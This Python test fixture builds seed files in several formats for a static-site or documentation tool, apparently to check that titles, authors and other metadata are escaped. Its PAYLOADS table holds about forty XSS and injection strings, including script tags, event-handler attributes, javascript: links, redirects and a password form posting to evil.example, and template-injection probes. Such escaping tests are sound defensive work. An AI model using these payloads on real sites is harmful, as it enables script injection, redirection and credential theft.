"""A project of seeds in which every field says something hostile, in each format that a seed may have."""

from __future__ import annotations

import html
import json
from collections.abc import Callable
from pathlib import Path

# What would run, load, redirect, restyle or break out of an attribute if it were taken for more than words.
PAYLOADS = {
    "title-and-script": "</title><script>alert(1)</script>",
    "script": "<script>alert(1)</script>",
    "script-from-elsewhere": '<script src="https://evil.example/x.js"></script>',
    "quote-and-script": '"><script>alert(1)</script>',
    "apostrophe-and-script": "'><script>alert(1)</script>",
    "capitals": "</TITLE><SCRIPT>alert(1)</SCRIPT>",
    "broken-end-tag": "</title/x><script>alert(1)</script foo>",
    "no-end": "</title><script>alert(1)//",
    "image": "<img src=x onerror=alert(1)>",
    "image-in-attribute": '"><img src=x onerror=alert(1)>',
    "picture": "<svg onload=alert(1)>",
    "picture-and-script": "<svg><script>alert(1)</script></svg>",
    "frame": '<iframe src="javascript:alert(1)"></iframe>',
    "object": '<object data="data:text/html,<script>alert(1)</script>"></object>',
    "refresh": '"><meta http-equiv="refresh" content="0; url=https://evil.example/">',
    "refresh-in-title": '</title><meta http-equiv="refresh" content="0; url=javascript:alert(1)">',
    "base": '</title><base href="https://evil.example/">',
    "style": "</title><style>body { background: url(https://evil.example/x) }</style>",
    "style-sheet": '"><link rel="stylesheet" href="https://evil.example/x.css">',
    "form": '</title><form action="https://evil.example/"><input name="password"></form>',
    "attributes": '" onmouseover="alert(1)" autofocus onfocus="alert(1)" x="',
    "attributes-of-markdown": '{: onclick="alert(1)" #search-dialog .md-header }',
    "link": "[pay](javascript:alert(1))",
    "link-with-an-entity": "<a href=java&#115;cript:alert(1)>pay</a>",
    "address": "<https://evil.example/>",
    "picture-of-markdown": "![x](https://evil.example/x.png)",
    "reference": "[x]: javascript:alert(1)",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "entities-twice": "&amp;lt;script&amp;gt;alert(1)",
    "comment": "<!-- --><script>alert(1)</script><!--",
    "comment-open": "</title><!--",
    "cdata": "<![CDATA[ ><script>alert(1)</script> ]]>",
    "template": "{{ config.__class__ }}{% include 'base.html' %}",
    "front-matter": "--- redirect: https://evil.example/ ---",
    "textarea": "</title><textarea>",
    "plaintext": "</title><plaintext>",
    "template-element": "<template><script>alert(1)</script></template>",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "details": "<details open ontoggle=alert(1)>",
    "json": "</script><script>alert(1)</script>",
    "ampersand": 'Smith & Sons, "AT&T" © &copy;',
}
# As many formats of seeds, with nothing in them that is more than words: what their pages are made of, all may be.
PLAIN = {"plain": "for all", "plain-too": "as told", "plain-three": "once more", "plain-four": "& all"}
FORMATS = ("txt", "md", "html", "jsonl")

_BODY = (
    'The harbour {0} will close, the minister said. "The harbour {0} will close before the winter, and no ship will '
    'come," said Jane Doe, minister of {0}, in Port Amber.\n\n'
    'According to {0} Herald, Ben {0} Oak disagreed. "It stays open {0} for good," Ben Oak told {0} reporters.\n'
)


def make_project(folder: Path, payloads: dict[str, str]) -> Path:
    """A project in `folder` with seeds of two formats for each payload; all else that it needs comes with Dossier."""
    seeds = folder / "seeds"
    seeds.mkdir(parents=True)
    (folder / "mkdocs.yml").write_text("site_name: Harbour & Co\n", encoding="utf-8")
    lines = []
    for number, (name, payload) in enumerate(payloads.items()):
        facts, text = facts_of(payload, 1 + number % 28), _BODY.format(payload)
        for kind in (FORMATS[number % 4], FORMATS[(number + 1) % 4]):
            if kind == "jsonl":
                lines.append(json.dumps({"id": name, "text": text, **facts}) + "\n")
            else:
                written = _WRITTEN[kind](facts, text)
                (seeds / f"{name}-{kind}.{kind}").write_text(written, encoding="utf-8")
    (seeds / "lines.jsonl").write_text("".join(lines), encoding="utf-8")
    return folder


def facts_of(payload: str, day: int) -> dict[str, str]:
    """What a seed states of itself."""
    return {
        "title": f"Harbour closes {payload}",
        "author": f"Sam {payload}",
        "outlet": f"Herald {payload}",
        "description": f"What the minister {payload} said",
        "url": f"https://herald.example/story?q={payload}",
        "date": f"2031-03-{day:02}",
    }


def _plain(facts: dict[str, str], text: str) -> str:
    return f"{facts['title']}\n\nBy {facts['author']}\n\n{facts['date']}\n\n{text}"


def _with_front_matter(facts: dict[str, str], text: str) -> str:
    stated = "".join(f"{key}: {json.dumps(value, ensure_ascii=False)}\n" for key, value in facts.items())
    return f"---\n{stated}---\n\n{text}"


def _page(facts: dict[str, str], text: str) -> str:
    """An HTML page that states its facts in `<meta>` and again in JSON-LD, as most do."""
    named = {
        "og:title": facts["title"], "author": facts["author"], "og:site_name": facts["outlet"],
        "description": facts["description"], "og:url": facts["url"], "article:published_time": facts["date"],
    }  # fmt: skip
    metas = "".join(f'<meta name="{key}" property="{key}" content="{html.escape(of)}">' for key, of in named.items())
    linked = {
        "@context": "https://schema.org", "@type": "NewsArticle", "headline": facts["title"],
        "datePublished": facts["date"], "author": {"@type": "Person", "name": facts["author"]},
        "publisher": {"@type": "Organization", "name": facts["outlet"]},
    }  # fmt: skip
    data = json.dumps(linked).replace("</", "<\\/")
    paragraphs = "".join(f"<p>{html.escape(paragraph)}</p>" for paragraph in text.strip().split("\n\n"))
    head = f"<title>{html.escape(facts['title'])}</title>{metas}<script type='application/ld+json'>{data}</script>"
    body = f"<article><h1>{html.escape(facts['title'])}</h1>{paragraphs}</article>"
    return f"<!doctype html><html lang='en'><head>{head}</head><body>{body}</body></html>"


_WRITTEN: dict[str, Callable[[dict[str, str], str], str]] = {"txt": _plain, "md": _with_front_matter, "html": _page}
